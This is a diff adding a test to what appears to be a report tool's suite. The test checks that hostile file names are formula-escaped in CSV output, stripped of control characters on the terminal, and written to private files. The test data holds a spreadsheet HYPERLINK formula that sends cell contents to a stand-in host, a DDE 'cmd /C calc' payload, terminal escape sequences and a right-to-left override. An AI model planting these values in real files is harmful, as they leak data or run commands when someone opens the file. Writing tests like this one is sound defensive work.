@@ -105,6 +105,29 @@ def test_csv_json_and_html_hold_every_row(world, capsys, tmp_path):
     assert all(f"wrote {p}" in out for p in paths.values())
 
 
+HOSTILE = '=HYPERLINK("http://x.example/?"&A1)\x1b]0;owned\x07\x1b[2J\r\u202e.mov'
+
+
+def test_names_are_formula_escaped_in_the_csv_cleaned_on_the_terminal_and_the_files_are_private(world, capsys,
+                                                                                              tmp_path):
+    world.add(HOSTILE, "corrupt", 4321, 100)  # kept, with its file name in the reason printed
+    world.add("+cmd|' /C calc'!A0.mov", "safe", 4567, 100)
+    paths = {kind: tmp_path / f"lucidlink.{kind}" for kind in ("csv", "json", "html")}
+    paths["csv"].write_text("an older report")
+    paths["csv"].chmod(0o644)
+
+    code, out, err = run_report(capsys, *(arg for kind, path in paths.items() for arg in (f"--{kind}", str(path))))
+
+    assert code == 0, err
+    assert all(path.stat().st_mode & 0o777 == 0o600 for path in paths.values())
+    with paths["csv"].open(newline="", encoding="utf-8") as file:
+        names = {row["name"] for row in csv.DictReader(file)}
+    assert "'" + HOSTILE in names and "'+cmd|' /C calc'!A0.mov" in names
+    assert not [name for name in names if name.startswith(("=", "+", "-", "@"))]
+    assert 'HYPERLINK("http://x.example/?"&A1)' in out
+    assert not [ch for ch in out if ch not in "\n" and (ord(ch) < 32 or 0x7f <= ord(ch) < 0xa0 or ch == "\u202e")]
+
+
 def test_a_stale_listing_is_corrected_by_each_assets_fresh_read(world, capsys, tmp_path):
     emu = world.emu
     emu.snapshot_listing()
